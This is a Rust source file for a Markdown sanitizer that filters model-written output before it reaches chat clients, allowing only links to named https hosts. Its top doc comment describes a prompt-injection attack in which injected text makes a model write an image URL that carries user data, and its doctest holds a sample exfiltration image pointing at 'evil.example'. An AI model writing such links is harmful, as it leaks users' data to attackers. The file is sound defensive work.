use std::fmt;

/// Makes text that a model wrote safe to send as Markdown.
///
/// A model repeats what it has read. Who can put text before it, in a mail or on a page, can make it write a picture
/// whose address carries what the user asked, and the client fetches it without a click. So nothing leaves but what is
/// named here.
///
/// **What passes:** text, emphasis, headings, lists, quotations, tables; code, inline and between fences at the left
/// edge; links to allowed hosts, as `[text](url)`, `<url>` or bare. **What does not:** a picture becomes a link, or its
/// words when its host is not allowed; a link to another host becomes its words; a bare address becomes a short notice;
/// definitions of links, HTML tags, rare character entities, invisible and direction-changing characters lose their
/// effect. Titles of links are dropped. Fences in lists and quotations count as text.
///
/// An address is allowed when it is `https`, without user and port, in plain ASCII, with no other address inside, on an allowed host. Names without a
/// scheme, such as `contoso.com`, are text and stay.
///
/// Sanitize the whole answer, or whole paragraphs of a stream: a link can be cut in two. Add mentions afterwards.
///
/// ```
/// use botframework_activity::MarkdownSanitizer;
///
/// let sanitizer = MarkdownSanitizer::new().allow_host("contoso.com").allow_host("*.contoso.com");
/// let text = "See [the report](https://docs.contoso.com/7) ![x](https://evil.example/?q=secret) or http://evil.example/a.";
/// assert_eq!(
///     sanitizer.sanitize(text),
///     "See [the report](https://docs.contoso.com/7) x or ‹link removed›."
/// );
/// assert!(!sanitizer.allows("https://contoso.com.evil.example/"));
/// ```
#[derive(Clone)]
pub struct MarkdownSanitizer {
    hosts: Vec<Box<str>>,
    notice: String,
    code: bool,
}

impl MarkdownSanitizer {
    /// A sanitizer that lets no link pass.
    #[must_use]
    #[inline]
    pub fn new() -> Self {
        Self { hosts: Vec::new(), notice: "‹link removed›".to_owned(), code: true }
    }

    /// Lets links to this host pass: an exact name, or `*.contoso.com` for every name below it. Anything else, such as a
    /// URL or a bare `*`, allows nothing.
    #[must_use]
    #[inline]
    pub fn allow_host(mut self, host: impl AsRef<str>) -> Self {
        let host = host.as_ref().to_ascii_lowercase();
        let name = host.strip_prefix("*.").unwrap_or(&host);
        if name.contains('.') && name.bytes().all(is_host_byte) {
            self.hosts.push(host.into());
        }
        self
    }

    /// Sets what stands for a bare address that is not allowed. Brackets and parentheses are left out of it.
    #[must_use]
    #[inline]
    pub fn notice(mut self, text: impl Into<String>) -> Self {
        self.notice = text.into();
        self.notice.retain(|c| !"[]()<>`!\\".contains(c));
        self
    }

    /// Treats code as text, for places that know no code, such as the texts of cards.
    #[must_use]
    #[inline]
    pub fn without_code(mut self) -> Self {
        self.code = false;
        self
    }

    /// Whether a link to this address may be sent.
    #[must_use]
    #[inline]
    pub fn allows(&self, url: &str) -> bool {
        let Some(rest) = strip_prefix_ignoring_case(url, "https://") else { return false };
        let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
        let tail = rest.get(host.len()..).unwrap_or_default();
        let host = host.to_ascii_lowercase();
        let named = |allowed: &str| match allowed.strip_prefix('*') {
            Some(suffix) => host.strip_suffix(suffix).is_some_and(|label| !label.is_empty() && !label.ends_with('.')),
            None => host == allowed,
        };
        host.bytes().all(is_host_byte)
            && tail.bytes().all(is_url_byte)
            && !tail.contains("//")
            && self.hosts.iter().any(|name| named(name))
    }

    /// The text with nothing in it that makes a client fetch or link what is not allowed.
    #[must_use]
    #[inline]
    pub fn sanitize(&self, text: &str) -> String {
        let text = visible(text);
        let lines: Vec<&str> = text.split_inclusive('\n').collect();
        let code = if self.code { fenced(&lines) } else { vec![false; lines.len()] };
        let mut out = String::with_capacity(text.len());
        let mut prose = String::new();
        for (line, is_code) in lines.iter().zip(code) {
            if is_code {
                self.prose(&std::mem::take(&mut prose), &mut out);
                out.push_str(line);
            } else {
                prose.push_str(line);
            }
        }
        self.prose(&prose, &mut out);
        out
    }

    /// Text outside of fences.
    #[inline]
    fn prose(&self, text: &str, out: &mut String) {
        let mut writer = Writer::new(text.len());
        let mut rest = text;
        let mut before = None;
        while let Some(c) = rest.chars().next() {
            let (used, last) = self.step(c, rest, before, &mut writer);
            before = last;
            rest = rest.get(used..).unwrap_or_default();
        }
        out.push_str(&writer.finish());
    }

    /// Handles what begins at `rest`; returns how many bytes that was, and the last character of it.
    #[inline]
    fn step(&self, c: char, rest: &str, before: Option<char>, writer: &mut Writer) -> (usize, Option<char>) {
        let after = rest.get(c.len_utf8()..).unwrap_or_default();
        match c {
            '`' if self.code => {
                let run = rest.bytes().take_while(|b| *b == b'`').count();
                let span = if before == Some('\\') { None } else { code_span(rest, run) };
                let used = span.unwrap_or(run);
                writer.push(rest.get(..used).unwrap_or_default());
                return (used, Some('`'));
            }
            '[' if writer.at_line_start && is_definition(rest) => writer.push("&#91;"),
            '[' => writer.open_bracket(),
            ']' => return (self.close_bracket(after, writer), Some(')')),
            '<' if after.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) => {
                match head(after, MAX_LOOK).split_once('>') {
                    Some((url, _)) if self.allows(url) => {
                        writer.push(&format!("<{url}>"));
                        return (url.len() + 2, Some('>'));
                    }
                    Some((url, _)) if url.contains("://") && !url.contains(char::is_whitespace) => {
                        writer.push(&self.notice);
                        return (url.len() + 2, Some('>'));
                    }
                    _ => writer.push("&lt;"),
                }
            }
            '&' if is_rare_entity(after) => writer.push("&amp;"),
            ':' if after.starts_with("//") => {
                let scheme = writer.take_scheme();
                if scheme.is_empty() {
                    writer.push(":");
                    return (1, Some(':'));
                }
                let tail = after.get(..url_length(after)).unwrap_or_default();
                let url = format!("{scheme}:{tail}");
                writer.push(if self.allows(&url) { &url } else { &self.notice });
                return (1 + tail.len(), tail.chars().last());
            }
            'w' | 'W' if starts_with_www(rest) => {
                let url = rest.get(..url_length(rest)).unwrap_or_default();
                let allowed = self.allows(&format!("https://{url}"));
                writer.push(if allowed { url } else { &self.notice });
                return (url.len().max(1), url.chars().last());
            }
            other => writer.push(other.encode_utf8(&mut [0; 4])),
        }
        (c.len_utf8(), Some(c))
    }

    /// Handles a `]`; returns how many bytes it and what belongs to it are.
    #[inline]
    fn close_bracket(&self, after: &str, writer: &mut Writer) -> usize {
        let Some(inside) = after.strip_prefix('(') else {
            writer.open.pop();
            writer.push("]");
            return 1;
        };
        let bracket = writer.open.pop();
        match (bracket.and_then(|_| destination(inside)), bracket) {
            (Some((url, length)), Some(_)) if self.allows(url) => {
                writer.push(&format!("]({url})"));
                2 + length
            }
            (Some((_, length)), Some(bracket)) => {
                writer.dropped.push(bracket);
                // What stood apart must not grow together to something new, `<` and `!` to a tag for one.
                let rest = inside.get(length..).unwrap_or_default();
                let opens = writer.out.ends_with('<') && rest.starts_with(['!', '?']);
                if opens || !ends_word(rest) {
                    writer.push(" ");
                }
                2 + length
            }
            _ => {
                writer.push("]&#40;");
                2
            }
        }
    }
}

impl Default for MarkdownSanitizer {
    #[inline]
    fn default() -> Self {
        Self::new()
    }
}

impl fmt::Debug for MarkdownSanitizer {
    #[inline]
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("MarkdownSanitizer").field("hosts", &self.hosts).finish_non_exhaustive()
    }
}

/// What is written, with the brackets that are open in it.
struct Writer {
    out: String,
    open: Vec<usize>,
    /// Offsets of brackets that turned out to belong to a link that is gone.
    dropped: Vec<usize>,
    /// Whether nothing but marks of lists and quotations stands before, in this line.
    at_line_start: bool,
}

impl Writer {
    #[inline]
    fn new(capacity: usize) -> Self {
        let out = String::with_capacity(capacity);
        Self { out, open: Vec::new(), dropped: Vec::new(), at_line_start: true }
    }

    #[inline]
    fn push(&mut self, text: &str) {
        let (in_new_line, line) = text.rsplit_once('\n').map_or((false, text), |(_, line)| (true, line));
        self.at_line_start = (self.at_line_start || in_new_line) && line.chars().all(is_prefix);
        self.out.push_str(text);
    }

    /// No picture: a `!` never stands before a bracket.
    #[inline]
    fn open_bracket(&mut self) {
        self.out.truncate(self.out.trim_end_matches('!').len());
        self.open.push(self.out.len());
        self.push("[");
    }

    /// Takes the letters of a scheme back.
    #[inline]
    fn take_scheme(&mut self) -> String {
        let letters = |c: char| c.is_ascii_alphanumeric() || "+.-".contains(c);
        let keep = self.out.trim_end_matches(letters).len();
        self.out.split_off(keep)
    }

    #[inline]
    fn finish(mut self) -> String {
        if self.dropped.is_empty() {
            return self.out;
        }
        self.dropped.sort_unstable();
        let mut dropped = self.dropped.iter().peekable();
        let mut text = String::with_capacity(self.out.len());
        for (at, c) in self.out.char_indices() {
            if dropped.next_if_eq(&&at).is_none() {
                text.push(c);
            } else if !begins_word(&text) {
                text.push(' ');
            }
        }
        text
    }
}

/// Whether a word may begin behind this text without becoming part of anything in it.
#[inline]
fn begins_word(before: &str) -> bool {
    before.trim_end_matches(['[', '(', '*', '_']).chars().next_back().is_none_or(char::is_whitespace)
}

/// Whether a word may end before this text without becoming part of anything in it. A bracket ends everything.
#[inline]
fn ends_word(after: &str) -> bool {
    if after.starts_with(']') {
        return true;
    }
    let after = after.trim_start_matches([']', ')', '.', ',', ';', ':', '!', '?', '*', '_']);
    after.chars().next().is_none_or(char::is_whitespace)
}

/// How many bytes are looked at for the end of what has begun.
const MAX_LOOK: usize = 2048;

/// At most the first so many bytes.
#[inline]
fn head(text: &str, bytes: usize) -> &str {
    let end = (0..=bytes.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or_default();
    text.get(..end).unwrap_or_default()
}

/// Without characters that nobody sees and that only mislead; every line ends in `\n`.
#[inline]
fn visible(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    let keep = |c: char| match c {
        '\r' => Some('\n'),
        '\n' | '\t' => Some(c),
        '\u{2028}' | '\u{2029}' | '\u{85}' => Some(' '),
        '\u{ad}' | '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' => None,
        '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}' => None,
        c if c.is_control() => None,
        c => Some(c),
    };
    text.chars().filter_map(keep).collect()
}

/// Which lines are code between fences. From the first fence on that could be read in two ways, none is.
#[inline]
fn fenced(lines: &[&str]) -> Vec<bool> {
    let mut code = vec![false; lines.len()];
    let mut open: Option<(char, usize, usize)> = None;
    for (at, line) in lines.iter().enumerate() {
        let marker = fence(line.trim_start_matches(is_prefix));
        match (open, marker) {
            (Some((c, length, start)), Some((found, run, rest))) => {
                let indent = line.len() - line.trim_start_matches(' ').len();
                let closes = found == c && run >= length && rest.trim().is_empty();
                if !closes || indent > 3 || !line.trim_start_matches(' ').starts_with(c) {
                    return code;
                }
                code.iter_mut().take(at + 1).skip(start).for_each(|line| *line = true);
                open = None;
            }
            (None, Some((c, length, rest))) => {
                if !line.starts_with(c) || rest.contains('`') {
                    return code;
                }
                open = Some((c, length, at));
            }
            (_, None) => {}
        }
    }
    code
}

/// A run of at least three back ticks or tildes: which, how many, and what follows.
#[inline]
fn fence(line: &str) -> Option<(char, usize, &str)> {
    let c = line.chars().next().filter(|c| matches!(c, '`' | '~'))?;
    let rest = line.trim_start_matches(c);
    let run = line.len() - rest.len();
    (run >= 3).then_some((c, run, rest))
}

/// What may stand before a block: white space, marks of quotations and lists.
#[inline]
fn is_prefix(c: char) -> bool {
    matches!(c, ' ' | '\t' | '>' | '-' | '*' | '+' | '.' | ')') || c.is_ascii_digit()
}

/// The length of a code span of one line whose content cannot do harm should somebody read it as text.
#[inline]
fn code_span(rest: &str, run: usize) -> Option<usize> {
    let line = head(rest, MAX_LOOK).split('\n').next()?;
    let mut at = run;
    loop {
        let tail = line.get(at..)?;
        let found = at + tail.find('`')?;
        let length = line.get(found..)?.bytes().take_while(|b| *b == b'`').count();
        if length == run {
            let content = line.get(run..found)?;
            let harmful = ["//", "![", "|"].iter().any(|part| content.contains(part))
                || (content.contains("](") && content.contains([':', '&']))
                || (content.contains('<') && content.contains('='))
                || content.to_ascii_lowercase().contains("www.");
            return (!harmful).then_some(found + run);
        }
        at = found + length;
    }
}

/// `[label]:`, which would define a link.
#[inline]
fn is_definition(rest: &str) -> bool {
    let paragraph = head(rest, MAX_LOOK).split("\n\n").next().unwrap_or_default();
    paragraph.split_once("]:").is_some_and(|(label, _)| !label.contains(']'))
}

/// The address in `(address "title")`, and the length up to the closing parenthesis.
#[inline]
fn destination(inside: &str) -> Option<(&str, usize)> {
    let paragraph = head(inside, MAX_LOOK).split("\n\n").next()?;
    let start = paragraph.len() - paragraph.trim_start().len();
    let body = paragraph.get(start..)?;
    let (url, mut at) = match body.strip_prefix('<') {
        Some(angle) => {
            let url = angle.split(['>', '\n']).next()?;
            (url, start + url.len() + 2)
        }
        None => {
            let mut depth = 0_usize;
            let end = body.find(|c: char| {
                match c {
                    '(' => depth += 1,
                    ')' if depth == 0 => return true,
                    ')' => depth -= 1,
                    _ => {}
                }
                c.is_whitespace()
            })?;
            (body.get(..end)?, start + end)
        }
    };
    let mut quote = None;
    for c in paragraph.get(at..)?.chars() {
        at += c.len_utf8();
        match (quote, c) {
            (None, ')') => return Some((url, at)),
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), c) if c == open => quote = None,
            _ => {}
        }
    }
    None
}

/// Entities that stand for what would be seen otherwise. The common ones stay.
#[inline]
fn is_rare_entity(after: &str) -> bool {
    let after = head(after, 33);
    let name = after.split(';').next().unwrap_or_default();
    let is_name = name.len() < after.len() && name.bytes().all(|b| b.is_ascii_alphanumeric());
    after.starts_with('#') || (is_name && !matches!(name, "amp" | "lt" | "gt" | "quot" | "apos" | "nbsp" | ""))
}

/// How long an address is, without the punctuation after it.
#[inline]
fn url_length(text: &str) -> usize {
    let end = text.find(|c: char| c.is_whitespace() || "<>\"`[]|\\".contains(c)).unwrap_or(text.len());
    text.get(..end).unwrap_or_default().trim_end_matches(|c: char| ".,;:!?'*_~)".contains(c)).len().max(2)
}

#[inline]
fn starts_with_www(text: &str) -> bool {
    strip_prefix_ignoring_case(text, "www.").is_some_and(|rest| rest.starts_with(|c: char| c.is_alphanumeric()))
}

#[inline]
fn strip_prefix_ignoring_case<'a>(text: &'a str, prefix: &str) -> Option<&'a str> {
    let head = text.get(..prefix.len())?;
    if head.eq_ignore_ascii_case(prefix) { text.get(prefix.len()..) } else { None }
}

#[inline]
fn is_host_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'.'
}

/// What an address may consist of after its host.
#[inline]
fn is_url_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"-._~:/?#@!$&'*+,;=%".contains(&b)
}
